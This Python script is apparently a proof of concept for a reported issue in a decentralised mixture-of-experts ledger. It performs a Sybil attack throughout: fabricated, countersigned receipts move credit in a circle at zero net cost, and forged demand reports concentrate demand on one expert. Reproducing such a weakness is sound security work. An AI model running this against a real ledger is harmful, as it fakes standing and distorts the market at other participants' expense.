"""Attacker for issue 32 point 1 (standing for free), run as its own process against a ledger's HTTP API.

    python circular_standing.py keys  STATE COUNT
    python circular_standing.py pay   STATE LEDGER_URL MODEL_ID HIDDEN FFN
    python circular_standing.py back  STATE LEDGER_URL MODEL_ID HIDDEN FFN LAYERS NUM_EXPERTS LAYER EXPERT

``keys`` makes a funded key (the operator grants it credit: the attacker bought it) and COUNT
fresh Sybil keys, kept in the STATE file. ``pay``: the funded key pays each Sybil for one
made-up call (one token, one expert, at the model's FLOPs bound). Once that epoch has settled,
``back``: each Sybil pays the funded key back for a call of the same price (zero net cost), and
signs a demand report putting all its demand on one expert. Each step prints one JSON line; the
last one holds the Sybils' reports (hex).
"""

from __future__ import annotations

import json
import os
import sys
import time
import urllib.request
from dataclasses import replace
from pathlib import Path

import msgpack
import numpy as np

from moeswarm.market import encode_report, sign_report
from moeswarm.protocol import Identity, Receipt, SignatureKind, canonical, countersign, encode, receipt_body


def receipt(client: Identity, server: Identity, model_id: str, hidden: int, ffn: int) -> bytes:
    r = Receipt(request_id=os.urandom(16), client=client.peer_id, server=server.peer_id, model_id=model_id,
                layer=0, experts=(0,), tokens=1, pairs=1, expert_flops=6 * hidden * ffn,
                input_hash=os.urandom(32), output_hash=os.urandom(32), time_ms=int(time.time() * 1000), seq=1)
    r = replace(r, sig=server.sign(SignatureKind.RECEIPT, canonical(receipt_body(r))))
    return encode(countersign(client, r))


def post(url: str, items: list[bytes]) -> list[str]:
    statuses = []
    for i in range(0, len(items), 100):
        req = urllib.request.Request(f"{url}/v1/receipts", method="POST", headers={"Content-Type": "application/msgpack"},
                                     data=msgpack.packb({"receipts": items[i:i + 100]}, use_bin_type=True))
        with urllib.request.urlopen(req, timeout=120) as resp:
            statuses += [r["status"] for r in json.loads(resp.read())["results"]]
    return statuses


def main() -> None:
    step, state = sys.argv[1], Path(sys.argv[2])
    if step == "keys":
        keys = [Identity.generate() for _ in range(1 + int(sys.argv[3]))]
        state.write_text(json.dumps([k.seed().hex() for k in keys]))
        print(json.dumps({"funded": keys[0].peer_id_str, "sybils": [k.peer_id_str for k in keys[1:]]}))
        return
    funded, *sybils = [Identity.from_seed(bytes.fromhex(s)) for s in json.loads(state.read_text())]
    url, model_id, hidden, ffn = sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
    if step == "pay":
        statuses = post(url, [receipt(funded, s, model_id, hidden, ffn) for s in sybils])
        print(json.dumps({"paid": statuses}))
        return
    layers = tuple(int(x) for x in sys.argv[7].split(","))
    num_experts, layer, expert = int(sys.argv[8]), int(sys.argv[9]), int(sys.argv[10])
    statuses = post(url, [receipt(s, funded, model_id, hidden, ffn) for s in sybils])
    counts = np.zeros((len(layers), num_experts), dtype=np.float32)
    counts[layers.index(layer), expert] = 1e6
    reports = [encode_report(sign_report(s, model_id=model_id, layers=layers, counts=counts, half_life_ms=600_000,
                                         time_ms=int(time.time() * 1000), seq=1)).hex() for s in sybils]
    print(json.dumps({"paid_back": statuses, "reports": reports}))


if __name__ == "__main__":
    main()
